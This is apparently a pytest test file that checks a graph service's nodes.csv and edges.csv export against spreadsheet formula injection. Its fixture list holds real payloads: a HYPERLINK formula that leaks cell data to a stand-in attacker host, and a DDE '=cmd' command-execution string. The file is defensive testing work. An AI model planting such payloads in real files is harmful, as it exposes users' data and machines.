"""nodes.csv and edges.csv are safe to open in a spreadsheet (OWASP CSV injection): text that
starts with a formula character is prefixed with an apostrophe, every text cell is quoted, and
numbers are written as numbers, negative ones included."""

from __future__ import annotations

import csv
import io

import networkx as nx
import pytest

from graphsvc.graph.export import (
    EDGE_CSV_COLUMNS,
    NODE_CSV_COLUMNS,
    iter_edges_csv,
    iter_nodes_csv,
    neutralise_csv_text,
)

# Names a news text could make into entities, each a formula in some spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open report")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")


def _graph() -> nx.MultiDiGraph:
    graph = nx.MultiDiGraph()
    for index, name in enumerate(HOSTILE):
        graph.add_node(f"n{index}", name=name, type="ORG", country=None, sector="-GOV",
                       aliases=[name], roles=[])
    graph.add_node("-id", name="Plain Name", type="PERSON", aliases=[], roles=[])
    graph.add_edge("n0", "n1", key="r_1", relation="=evil()", cameo="190", plover="+ASSAULT",
                   goldstein=-9.5, quad_class=4, date="2022-02", negated=False,
                   modality="asserted", confidence=0.75, symmetric=False, location="@Kyiv",
                   mentions=1, evidence=[{"doc_id": "-d", "sentence": "=x", "start": 0,
                                          "end": 2, "trigger": "+t"}])
    graph.add_edge("-id", "n2", key="-r", relation="met_with", goldstein=-0.0, quad_class=1,
                   confidence=1, mentions=0, evidence=[])
    return graph


def _table(chunks: list[bytes]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8"))))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _restored(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


@pytest.mark.parametrize("writer", [iter_nodes_csv, iter_edges_csv])
def test_no_cell_starts_a_formula(writer: object) -> None:
    rows = _table(list(writer(_graph())))  # type: ignore[operator]
    cells = [cell for row in rows[1:] for cell in row]
    offending = [cell for cell in cells if cell.startswith(FORMULA_START)]
    # Negative numbers are the only cells allowed a leading minus.
    assert all(_is_number(cell) for cell in offending), offending


def test_names_come_back_exactly_without_the_apostrophe() -> None:
    rows = _table(list(iter_nodes_csv(_graph())))
    assert tuple(rows[0]) == NODE_CSV_COLUMNS
    names = {row[0]: row[1] for row in rows[1:]}
    assert [_restored(names[f"n{i}"]) for i in range(len(HOSTILE))] == HOSTILE
    assert names["n1"] == "'+1" and names["n2"] == "'-2" and names["n3"] == "'@SUM(A1:A9)"
    assert names["n7"] == "''=already quoted"
    assert names["'-id"] == "Plain Name"  # ids too: edges.csv refers to the same text


def test_every_text_column_is_neutralised_not_only_names() -> None:
    rows = _table(list(iter_edges_csv(_graph())))
    assert tuple(rows[0]) == EDGE_CSV_COLUMNS
    first = dict(zip(EDGE_CSV_COLUMNS, rows[1], strict=True))
    assert (first["relation"], first["plover"], first["location"]) == (
        "'=evil()", "'+ASSAULT", "'@Kyiv")
    second = dict(zip(EDGE_CSV_COLUMNS, rows[2], strict=True))
    assert (second["key"], second["source"]) == ("'-r", "'-id")


def test_numeric_columns_keep_their_sign_and_stay_unquoted() -> None:
    text = b"".join(iter_edges_csv(_graph())).decode("utf-8")
    line = text.splitlines()[1]
    assert ',-9.5,4,"2022-02","false","asserted",0.75,"false","\'@Kyiv",1,' in line
    second = dict(zip(EDGE_CSV_COLUMNS, _table([text.encode()])[2], strict=True))
    assert (second["goldstein"], second["confidence"], second["mentions"]) == ("-0.0", "1", "0")


def test_header_stays_bare_and_plain_text_is_only_quoted() -> None:
    text = b"".join(iter_nodes_csv(_graph())).decode("utf-8")
    assert text.splitlines()[0] == ",".join(NODE_CSV_COLUMNS)
    assert '"-id"' not in text and '"\'-id","Plain Name","PERSON","",' in text


@pytest.mark.parametrize(("text", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\0x", "'\0x"), ("'x", "''x"),
    ("Xi Jinping", "Xi Jinping"), ("", ""), ("a=b", "a=b"), (" =1", " =1"),
])
def test_neutralise_csv_text(text: str, expected: str) -> None:
    assert neutralise_csv_text(text) == expected
